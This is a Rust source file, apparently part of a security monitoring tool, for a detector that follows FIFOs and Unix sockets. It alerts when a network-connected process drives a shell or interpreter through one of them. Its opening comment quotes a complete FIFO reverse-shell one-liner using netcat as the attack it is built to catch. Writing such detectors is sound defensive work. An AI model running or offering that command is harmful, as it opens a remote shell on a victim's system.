//! IPC wiring: follows FIFOs and AF_UNIX sockets in shared directories, per host, with the processes
//! around them, and tells a channel through which a network peer (or a program run from a writable
//! directory) drives a shell or interpreter from one that only passes data between a script's commands.
//!
//! The classic it is built for: `mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f`.
//! `cat` reads the FIFO, `sh` is its pipeline sibling, `nc` (another sibling) writes the FIFO and
//! connects out. No event says "these three are one pipeline" (anonymous pipes are not traced), so a
//! pipeline is approximated the way a shell makes one: children of the same parent started within
//! `pipeline_span` of each other.
//!
//! Per channel (host + path) the detector keeps the processes that created, read and wrote the FIFO
//! (or bound and connected to the socket). A channel is **wired** when:
//! - the *input side* (FIFO readers; for a socket either end) or a pipeline sibling of it, or a child
//!   or grandchild it started, is a shell or interpreter (image name in `shells`), and
//! - the *feeding side* (FIFO writers; for a socket the other end), a pipeline sibling of it, or its
//!   parent, is a driver: a process with network activity (a TCP connect or accept), or one whose
//!   executable lies in a writable directory, or failing both a known network tool by name,
//! - and the two are different processes.
//!
//! A wired channel gives one alert of `wired_severity` (at once); a FIFO that is still not wired
//! `decision_delay` after its first use gives one alert of `unwired_severity` (on the watermark), when
//! that is enabled. Sockets that are not wired are left to the socket-path baseline. Every alert names
//! the processes of the channel with their lineage (parent chain from the process starts seen, then
//! the parent the source named), in the reason and in the evidence (`sensor.ipc.role`,
//! `sensor.ipc.lineage`).
//!
//! Event time only; state is bounded (processes and channels capped, expired `window` after their
//! last activity); everything that can alert iterates ordered maps.

mod config;
mod decide;
mod model;
mod reason;
#[cfg(test)]
mod tests;
mod track;

use std::collections::{BTreeMap, VecDeque};

use crate::{Alert, Detector, Event};
pub use config::WiringConfig;
use model::{int, text, Host, Kind, F};

/// Processes tracked at most (all hosts); the oldest inserted go first.
const MAX_PROCS: usize = 16_384;
/// Most bytes the process table holds (all hosts): remote agents choose pids, command lines and
/// event sizes, so a count alone does not bound it (16,384 exec events of 300 kB each held 4.8 GB).
/// Past it the oldest inserted go first, counted in `dropped_procs`.
pub const MAX_PROC_BYTES: usize = 32 << 20;
/// Largest event kept as a process's evidence (its exec, its first network event): a bigger one is
/// not kept (the image, parent and clipped command line still are), counted in
/// `dropped_evidence`.
pub const MAX_EVIDENCE_EVENT_BYTES: usize = 64 << 10;
/// Longest executable, name, arg0 or parent label kept (`PATH_MAX`).
const MAX_IMAGE_BYTES: usize = 4096;
/// Channels followed per host at most; the least recently used goes first.
const MAX_CHANNELS_PER_HOST: usize = 256;
/// Processes kept per role (creator, reader, writer...) of a channel.
const MAX_PARTS_PER_ROLE: usize = 8;
const MAX_EVIDENCE: usize = 24;
/// Relatives (pipeline siblings, children, grandchildren) of a channel's processes judged when the
/// channel is: a process with thousands of children (a build, a loop of short-lived commands; the
/// kernel sees the whole host) made every event of it judge each child against the shell patterns,
/// O(children) glob matches per event, and the whole pipeline crawled. Siblings come first (those
/// started within `pipeline_span`), then children in pid order.
const MAX_RELATIVES: usize = 256;
const MAX_LINEAGE: usize = 6;
const MAX_CMD_CHARS: usize = 120;

pub struct IpcWiring {
    cfg: WiringConfig,
    hosts: BTreeMap<String, Host>,
    order: VecDeque<(String, i64, u64)>,
    gen: u64,
    procs: usize,
    /// Bytes of the process table (the sum of its entries' `counted`).
    proc_bytes: usize,
    /// Processes forgotten because of the caps (entries, bytes).
    pub dropped_procs: u64,
    /// Evidence events not kept for being over [`MAX_EVIDENCE_EVENT_BYTES`].
    pub dropped_evidence: u64,
    /// Channels forgotten because of the per-host cap.
    pub dropped_channels: u64,
}

impl IpcWiring {
    pub fn new(cfg: WiringConfig) -> IpcWiring {
        IpcWiring {
            cfg,
            hosts: BTreeMap::new(),
            order: VecDeque::new(),
            gen: 0,
            procs: 0,
            proc_bytes: 0,
            dropped_procs: 0,
            dropped_evidence: 0,
            dropped_channels: 0,
        }
    }

    fn host_key(ev: &Event) -> String {
        let f = &*F;
        text(ev, f.host_id)
            .or_else(|| text(ev, f.host_name))
            .or_else(|| text(ev, f.agent_id))
            .unwrap_or_default()
    }
}

impl Detector for IpcWiring {
    fn id(&self) -> &str {
        &self.cfg.id
    }

    fn sets_severity(&self) -> bool {
        true
    }

    fn on_event(&mut self, event: &Event, out: &mut Vec<Alert>) {
        let kind = if (self.cfg.fifo_events)(event) {
            Some(Kind::Fifo)
        } else if (self.cfg.socket_events)(event) {
            Some(Kind::Socket)
        } else {
            None
        };
        let is_proc = kind.is_none() && (self.cfg.process_events)(event);
        let is_net = kind.is_none() && !is_proc && (self.cfg.network_events)(event);
        if kind.is_none() && !is_proc && !is_net {
            return;
        }
        let host = Self::host_key(event);
        let now = event.timestamp_ns;
        let f = &*F;
        let mut touched: Vec<i64> = Vec::new();
        let mut named = Vec::new();
        if is_proc {
            touched = self.on_process(&host, event, now);
            let action = text(event, f.action).unwrap_or_default();
            if !matches!(action.as_str(), "fork" | "clone" | "clone3" | "vfork") {
                named = self.named_on_command_line(&host, event, now, out);
            }
        } else if let Some(pid) = int(event, f.pid) {
            self.touch(&host, pid, event, now);
            touched.push(pid);
            if is_net {
                if let Some(p) = self
                    .hosts
                    .get_mut(&host)
                    .and_then(|h| h.procs.get_mut(&pid))
                {
                    if p.net.is_none() {
                        if crate::eql::sequence::event_bytes(event) <= MAX_EVIDENCE_EVENT_BYTES {
                            p.net = Some(event.clone());
                        } else {
                            self.dropped_evidence += 1;
                        }
                    }
                }
                self.recount(&host, pid);
                self.shed_procs();
            }
        } else {
            return;
        }
        if let Some(kind) = kind {
            if let Some(key) = self.on_channel_event(&host, kind, event, now, out) {
                self.mark(&host, &key, now);
                self.evaluate(&host, &key, now, out);
            }
            return;
        }
        // A process or network event: re-judge the channels it may belong to.
        let Some(h) = self.hosts.get(&host) else {
            return;
        };
        let mut probe = touched.clone();
        for pid in &touched {
            if let Some(pp) = h.procs.get(pid).and_then(|p| p.ppid) {
                probe.push(pp);
            }
        }
        let mut keys: Vec<(Kind, String)> = h
            .channels
            .iter()
            .filter(|(_, c)| !c.high_sent && probe.iter().any(|p| c.related.contains(p)))
            .map(|(k, _)| k.clone())
            .collect();
        for k in named {
            if !keys.contains(&k) {
                keys.push(k);
            }
        }
        for key in keys {
            self.mark(&host, &key, now);
            self.evaluate(&host, &key, now, out);
        }
    }

    fn on_watermark(&mut self, now_ns: i64, out: &mut Vec<Alert>) {
        // Undecided channels: a forked subshell may have settled; FIFOs past the decision delay that
        // are still not wired get their low alert.
        let settle = self.cfg.pipeline_span_ns.saturating_mul(3);
        let mut todo: Vec<(String, (Kind, String), bool)> = Vec::new();
        for (host, h) in &self.hosts {
            for (k, c) in &h.channels {
                let due_low = c.kind == Kind::Fifo
                    && !c.low_sent
                    && now_ns >= c.first_ns.saturating_add(self.cfg.decision_delay_ns);
                let recent = !c.settled_checked;
                if !c.high_sent && (recent || due_low) {
                    todo.push((host.clone(), k.clone(), recent));
                }
            }
        }
        for (host, key, recent) in todo {
            if recent {
                self.evaluate(&host, &key, now_ns, out);
                if let Some(c) = self
                    .hosts
                    .get_mut(&host)
                    .and_then(|h| h.channels.get_mut(&key))
                {
                    if now_ns.saturating_sub(c.eval_ns) > settle {
                        c.settled_checked = true;
                    }
                }
            }
            let due = self
                .hosts
                .get(&host)
                .and_then(|h| h.channels.get(&key))
                .is_some_and(|c| {
                    c.kind == Kind::Fifo
                        && !c.high_sent
                        && !c.low_sent
                        && now_ns >= c.first_ns.saturating_add(self.cfg.decision_delay_ns)
                });
            if due {
                if let Some(a) = self.low_alert(&host, &key, now_ns) {
                    out.push(a);
                }
                if let Some(c) = self
                    .hosts
                    .get_mut(&host)
                    .and_then(|h| h.channels.get_mut(&key))
                {
                    c.low_sent = true;
                }
            }
        }
        let horizon = now_ns.saturating_sub(self.cfg.window_ns);
        let mut removed = 0usize;
        for h in self.hosts.values_mut() {
            h.channels.retain(|_, c| c.last_ns >= horizon);
            let old: Vec<i64> = h
                .procs
                .iter()
                .filter(|(_, p)| p.last_ns < horizon)
                .map(|(pid, _)| *pid)
                .collect();
            for pid in old {
                if let Some(p) = h.procs.remove(&pid) {
                    removed += 1;
                    self.proc_bytes -= p.counted;
                    if let Some(pp) = p.ppid {
                        if let Some(c) = h.children.get_mut(&pp) {
                            c.remove(&pid);
                        }
                    }
                }
            }
            h.children.retain(|_, c| !c.is_empty());
        }
        self.procs -= removed;
        self.hosts
            .retain(|_, h| !h.procs.is_empty() || !h.channels.is_empty());
    }

    fn pending(&self) -> usize {
        self.hosts
            .values()
            .map(|h| h.channels.values().filter(|c| !c.high_sent).count())
            .sum()
    }

    fn shed(&self) -> u64 {
        self.dropped_procs + self.dropped_channels + self.dropped_evidence
    }
}
